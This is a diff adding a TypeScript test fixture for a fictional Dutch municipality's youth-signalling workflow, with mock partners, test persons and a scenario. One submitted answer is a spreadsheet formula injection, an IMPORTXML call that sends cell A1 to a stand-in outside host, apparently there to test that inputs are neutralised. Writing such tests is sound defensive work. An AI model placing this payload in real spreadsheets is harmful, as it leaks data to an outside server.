@@ -1,0 +1,138 @@
+/** Shared set-up for workflow tests: a small fictional gemeente played on the in-memory Apps Script. */
+
+import { snapshotSpreadsheet } from '../../src/local/apps-script/spreadsheet';
+import { parseScenario } from '../../src/local/demo/loadScenario';
+import type { ScenarioResult } from '../../src/local/demo/runScenario';
+import { runScenario } from '../../src/local/demo/runScenario';
+import type { Scenario } from '../../src/local/demo/scenarioSchema';
+import type { LocalAppsScript } from '../../src/local/harness';
+import { startLocalAppsScript } from '../../src/local/harness';
+
+export const PARTNERS = [
+  {
+    id: 'politie',
+    organisation: 'Politie Basisteam Testdorp',
+    kind: 'politie',
+    contactName: 'Wijkagent Test',
+    email: 'wijkagent@politie.example',
+    steps: ['1', '2A', '2B', '3', '4', '5', '6', '7'],
+    levels: ['groep', 'persoon', 'domein', 'online'],
+    active: true,
+  },
+  {
+    id: 'jongerenwerk',
+    organisation: 'Jongerenwerk Testdorp',
+    kind: 'jongerenwerk',
+    contactName: 'Jongerenwerker Test',
+    email: 'team@jongerenwerk.example',
+    steps: ['1', '2A', '3', '5', '6', '7'],
+    levels: ['groep', 'domein', 'online'],
+    active: true,
+  },
+  {
+    id: 'boa',
+    organisation: 'Handhaving Testdorp',
+    kind: 'boa',
+    contactName: 'Boa Test',
+    email: 'handhaving@testdorp.example',
+    steps: ['1', '2A', '3', '6'],
+    levels: ['groep', 'domein'],
+    active: true,
+  },
+];
+
+export const PERSONS = [
+  { naam: 'Testpersoon Aardbei', geboortejaar: 2010 },
+  { naam: 'Testpersoon Bosbes', geboortejaar: 2009 },
+  { naam: 'Testpersoon Citroen', geboortejaar: 2011 },
+];
+
+const SIGNAL = {
+  '1.acuut': 'Nee',
+  '1.functie': 'wijkagent',
+  '1.locaties': 'Speeltuin aan het Kerkplein, vooral na schooltijd.',
+  '1.gedrag': ['Rondhangen en lawaai maken'],
+  '1.ernst': '3',
+};
+
+/** A scenario that ends in 2A with "niet problematisch" (no person data). */
+export function shortScenario(overrides: Partial<Scenario> = {}): Scenario {
+  const parsed = parseScenario({
+    name: 'kort',
+    settings: {
+      gemeente: 'Testdorp',
+      retentionMonths: 12,
+      coordinatorName: 'Procesregisseur Test',
+      coordinatorEmail: 'regie@testdorp.example',
+      mailSenderName: 'Gemeente Testdorp',
+    },
+    partners: PARTNERS,
+    persons: PERSONS,
+    steps: [
+      {
+        step: '1',
+        startOn: '2026-01-12',
+        submissions: {
+          politie: { day: 1, answers: SIGNAL, duplicate: true },
+          boa: {
+            day: 2,
+            answers: {
+              ...SIGNAL,
+              '1.functie': 'boa',
+              '1.locaties': '=IMPORTXML("https://x.example/?"&A1,"//a")',
+            },
+            edit: { day: 3, answers: { ...SIGNAL, '1.functie': 'jeugdboa', '1.locaties': '+31 6 12345678' } },
+          },
+        },
+        ghosts: ['jongerenwerk'],
+        decision: {
+          day: 12,
+          outcome: 'verder_verkennen',
+          motivation: 'Twee partners zien hetzelfde.',
+          decidedBy: 'partneroverleg',
+        },
+      },
+      {
+        step: '2A',
+        startOn: '2026-02-02',
+        submissions: {},
+        decision: {
+          day: 12,
+          outcome: 'niet_problematisch',
+          motivation: 'Het gedrag is hinderlijk maar niet problematisch.',
+          decidedBy: 'partneroverleg',
+          route: 'lichte_interventie',
+        },
+      },
+    ],
+    ...overrides,
+  });
+  if (!parsed.ok) throw new Error(parsed.errors.join('\n'));
+  return parsed.scenario;
+}
+
+export interface Played {
+  local: LocalAppsScript;
+  result: ScenarioResult;
+  lines: string[];
+}
+
+export function play(scenario: Scenario): Played {
+  const local = startLocalAppsScript({ now: Date.UTC(2026, 0, 5, 7, 0), mailDailyQuota: scenario.mailQuota });
+  const lines: string[] = [];
+  try {
+    const result = runScenario(local.rt, scenario, (l) => lines.push(l));
+    return { local, result, lines };
+  } catch (e) {
+    local.dispose();
+    throw e;
+  }
+}
+
+/** Visible tabs of a spreadsheet as plain values (what a coordinator sees). */
+export function visibleTabs(p: Played, id: string, except: string[] = []): Record<string, unknown[][]> {
+  const snap = snapshotSpreadsheet(p.local.rt, id);
+  const out: Record<string, unknown[][]> = {};
+  for (const s of snap.sheets) if (!s.hidden && !except.includes(s.name)) out[s.name] = s.values;
+  return out;
+}
